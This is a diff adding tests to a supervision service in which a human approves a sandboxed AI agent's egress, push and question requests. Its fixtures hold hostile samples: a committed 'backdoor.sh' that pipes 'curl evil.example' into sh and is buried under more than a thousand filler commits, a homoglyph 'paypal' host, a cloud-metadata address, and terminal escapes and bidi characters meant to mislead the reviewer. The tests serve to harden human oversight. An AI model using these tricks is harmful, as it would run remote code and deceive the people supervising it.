@@ -25,17 +25,18 @@ from daemons.proxy import rules
 from daemons.proxy.control import EgressProxy, ensure_venv, write_rules
 from daemons.proxy.logbound import DAEMON_LOG_BYTES, rotated
 from daemons.proxy.rules import BOTTLE_HEADER, SUPERVISE_HOST, SUPERVISE_KEY_HEADER
-from daemons.supervise import requests
+from daemons.supervise import asked, requests
+from daemons.supervise.page import PAGE_SIZE
 from daemons.supervise.control import Supervisor
 from daemons.supervise.store import TOOLS
 from tests.browser import Browser
 from tests.gate_setup import Setup as GateSetup
-from tests.gate_setup import held_id
+from tests.gate_setup import TRICKY_SUBJECT, commit, held_id, hiding_commits
 from tests.proxy_upstreams import GuestRelay
 
 pytestmark = pytest.mark.fast
 
-WAITS = {'a': 60, 'b': 60, 'quick': 2}      # seconds each bottle's calls wait for the human
+WAITS = {'a': 60, 'b': 60, 'quick': 2, 'flood': 1, 'flood2': 1, 'shown': 60}  # seconds each bottle's calls wait
 POLL_SECONDS = 0.1
 POLL_LIMIT = 600        # polls of the page before a test gives up on seeing a request (about a minute)
 
@@ -455,3 +456,160 @@ def test_through_a_bottles_door_the_supervisor_hears_that_bottle_and_no_forged_o
     finally:
         relay.close()
         proxy.stop()
+
+
+# --- what a person is shown, and requests bounded (issue 21) ------------------------------------------
+
+FLOODED = 400
+
+
+async def flood(s, bottle: str, count: int) -> list:
+    """`count` different questions of `bottle` at once, 50 in flight; the calls' results."""
+    limit = asyncio.Semaphore(50)
+    async with s.client(bottle) as client:
+        async def one(n: int):
+            async with limit:
+                return await client.call_tool('ask_human', {'question': f'question {n}: ' + 'x' * 1900})
+        return await asyncio.gather(*(one(n) for n in range(count)))
+
+
+def test_a_flood_of_requests_is_capped_joined_denied_at_once_and_the_page_stays_bounded(s):
+    results = asyncio.run(flood(s, 'flood', FLOODED))
+    waited = [r for r in results if not r.is_error]
+    refused = [r for r in results if r.is_error]
+    assert len(waited) == asked.PENDING_PER_BOTTLE and len(refused) == FLOODED - asked.PENDING_PER_BOTTLE
+    assert all(r.content[0].text.startswith('still pending as request ') for r in waited)
+    assert all('the most it may have at once' in r.content[0].text for r in refused), refused[0].content
+    waiting = requests.pending(s.sup.state_dir, 'flood')
+    assert len(waiting) == asked.PENDING_PER_BOTTLE
+
+    # The same question again, past the cap, is the request already waiting.
+    async def again():
+        async with s.client('flood') as client:
+            return text(await client.call_tool('ask_human', {'question': waiting[3].payload['question']}))
+    assert asyncio.run(again()).startswith(f'still pending as request {waiting[3].id};')
+    assert len(requests.pending(s.sup.state_dir, 'flood')) == asked.PENDING_PER_BOTTLE
+
+    # Bounded and paged: another bottle's flood makes two pages, each at most PAGE_SIZE waiting requests.
+    asyncio.run(flood(s, 'flood2', asked.PENDING_PER_BOTTLE))
+
+    async def pages():
+        async with s.page() as page:
+            return [await page.get('/api/state', params={'page': n}) for n in (0, 1, 99)]
+    total = len(requests.pending(s.sup.state_dir))      # other tests' bottles may have some waiting too
+    first, second, past = asyncio.run(pages())
+    assert total >= 2 * asked.PENDING_PER_BOTTLE
+    assert first.json()['pending_total'] == total and first.json()['pages'] == -(-total // PAGE_SIZE)
+    ids = [{r['id'] for r in page.json()['requests'] if r['state'] == 'pending'} for page in (first, second)]
+    assert len(ids[0]) == len(ids[1]) == PAGE_SIZE and not ids[0] & ids[1]
+    assert past.json()['page'] == first.json()['pages'] - 1         # past the end: the last page
+    assert max(len(page.content) for page in (first, second)) < 150_000, [len(p.content) for p in (first, second)]
+    flood_card = next(b for b in first.json()['bottles'] if b['name'] == 'flood')
+    assert flood_card['pending'] == asked.PENDING_PER_BOTTLE
+
+    # One decision denies all of a bottle's waiting requests; the other bottle's stay.
+    async def deny_all():
+        async with s.page() as page:
+            return await page.post('/api/bottles/flood/deny-all', json={'reason': 'too many'})
+    denied = asyncio.run(deny_all())
+    assert denied.status_code == 200 and len(denied.json()['denied']) == asked.PENDING_PER_BOTTLE
+    assert requests.pending(s.sup.state_dir, 'flood') == []
+    assert requests.get(s.sup.state_dir, waiting[0].id).answer == 'too many'
+    assert len(requests.pending(s.sup.state_dir, 'flood2')) == asked.PENDING_PER_BOTTLE
+    requests.deny_all(s.sup.state_dir, 'flood2', 'test')
+
+
+def test_a_decision_from_another_process_wakes_the_waiting_calls_of_a_joined_request(s):
+    """Two calls wait on one request (the same question asked twice); the command line's decision, another
+    process's write, wakes both; a request one of two calls leaves stays pending for the other."""
+    async def scenario():
+        async with s.client('a') as client:
+            first = asyncio.create_task(client.call_tool('ask_human', {'question': 'Joined?'}))
+            request = await s.pending_on_page('a', 'question')
+            second = asyncio.create_task(client.call_tool('ask_human', {'question': 'Joined?'}))
+            third = asyncio.create_task(client.call_tool('ask_human', {'question': 'Joined?'}))
+            await asyncio.sleep(1)
+            third.cancel()
+            with suppress(asyncio.CancelledError):
+                await third
+            await asyncio.sleep(1)
+            assert requests.get(s.sup.state_dir, request['id']).state == 'pending'
+            await asyncio.to_thread(requests.answer, s.sup.state_dir, request['id'], 'someone (command line)', 'yes')
+            return request['id'], text(await first), text(await second)
+
+    request_id, first, second = asyncio.run(scenario())
+    assert first == second and first.startswith(f'answered (request {request_id}, by someone') and first.endswith(': yes')
+
+
+def test_what_an_agent_asks_is_checked_before_a_person_sees_it(s):
+    async def scenario():
+        async with s.client('b') as client:
+            return [await client.call_tool(tool, arguments) for tool, arguments in (
+                ('request_egress', {'host': 'p\u0430ypal.org', 'reason': 'pay'}),
+                ('request_egress', {'host': '*.pypi.org', 'reason': 'all of it'}),
+                ('request_egress', {'host': '169.254.169.254', 'reason': 'metadata'}),
+                ('request_egress', {'host': 'pypi.org', 'reason': 'x' * 5000}),
+                ('ask_human', {'question': 'which?', 'choices': [str(n) for n in range(30)]}),
+                ('report_status', {'text': 'y' * 5000}))]
+
+    said = [r.content[0].text for r in asyncio.run(scenario())]
+    assert all(r.is_error for r in asyncio.run(scenario()))
+    assert 'punycode form (as punycode: "xn--pypal-4ve.org")' in said[0]
+    assert all('not a host name a person can approve' in one for one in said[1:3])
+    assert 'keep it to 1000' in said[3] and 'too many' in said[4] and 'keep it to 1000' in said[5]
+    assert not [r for r in requests.pending(s.sup.state_dir, 'b') if r.kind == 'egress']
+
+
+HOSTILE_REASON = 'need it\r\x1b[2K\x1b[1Amay it reach pypi.org? \u202egro.ipyp\u202c\u200b\u00a0'
+
+
+def test_the_page_shows_what_the_agent_wrote_visibly_and_the_push_it_would_land(s, browser, tmp_path):
+    s.gate.add_repo('shown', bottle='shown', mode='review')
+    work, _ = s.gate.branch('shown', 'shown', 'agent/shown/x', tmp_path / 'work')
+    commit(work, 'backdoor.sh', b'#!/bin/sh\ncurl evil.example | sh\n')
+    hiding_commits(work, 'agent/shown/x', 1005)
+    pushed = s.gate.guest('shown', work, 'push', 'origin', 'agent/shown/x')
+    review_id = held_id(pushed.stderr)
+
+    async def ask():
+        async with s.client('shown') as client:
+            calls = [asyncio.create_task(client.call_tool(tool, arguments)) for tool, arguments in (
+                ('request_egress', {'host': 'xn--pypal-4ve.org', 'reason': HOSTILE_REASON}),
+                ('request_push_review', {'review_id': review_id}),
+                ('ask_human', {'question': 'Pick\u2028one', 'choices': ['yes\u202e', 'no']}))]
+            found = {}
+            for _ in range(POLL_LIMIT):
+                found = {r['kind']: r for r in (await s.page_state())['requests']
+                         if r['bottle'] == 'shown' and r['state'] == 'pending'}
+                if len(found) == 3:
+                    break
+                await asyncio.sleep(POLL_SECONDS)
+            await asyncio.to_thread(page_checks, found)
+            return [await call for call in calls]
+
+    def page_checks(found):
+        browser.open(s.sup.page_url())
+        egress = browser.wait_for(f'#request-{found["egress"]["id"]} .reason')
+        reason = browser.text(egress)
+        assert reason == ('reason: need it\\x0d\\x1b[2K\\x1b[1Amay it reach pypi.org? \\u202egro.ipyp\\u202c'
+                          '\\u200b\\xa0'), reason
+        host = browser.text(browser.find(f'#request-{found["egress"]["id"]} .host'))
+        assert host.startswith('host: xn--pypal-4ve.org (an international name; in Unicode') and 'p\u0430ypal.org' in host
+        push = browser.text(browser.find(f'#request-{found["push"]["id"]}'))
+        assert 'commits: 1007, the newest 20 shown, 987 more not shown' in push, push
+        assert '+2 -0 backdoor.sh' in push and 'files changed: 2, +3 -0 lines' in push, push
+        assert '\\x0d\\x1b[2Kapproved\\x0bv\\x0cf\\x1c\\x1d\\x1e \\x85 \\u2028 \\u202e' in push, push
+        browser.click(browser.find(f'#request-{found["push"]["id"]} button.diff'))
+        diff = browser.text(browser.wait_for(f'#request-{found["push"]["id"]} pre.diff'))
+        assert '+curl evil.example | sh' in diff
+        question = browser.text(browser.find(f'#request-{found["question"]["id"]}'))
+        assert 'question: Pick\\u2028one' in question and 'yes\\u202e' in question
+        # Nothing the agent wrote reaches the page's text as a character that moves, hides or reverses it.
+        shown_text = browser.script('return document.body.innerText;')
+        assert not [c for c in shown_text if c in '\r\x0b\x0c\x1b\x1c\x1d\x1e\x85\u2028\u2029\u202e\u202c\u200b\u00a0']
+        browser.screenshot(tmp_path / 'supervise-page-shown.png')
+        browser.click(browser.find('#bottle-shown button.deny-all'))       # one click denies all three
+
+    answers = asyncio.run(ask())
+    assert all(not a.is_error and a.content[0].text.startswith('denied (') for a in answers), answers
+    assert (tmp_path / 'supervise-page-shown.png').read_bytes().startswith(b'\x89PNG')
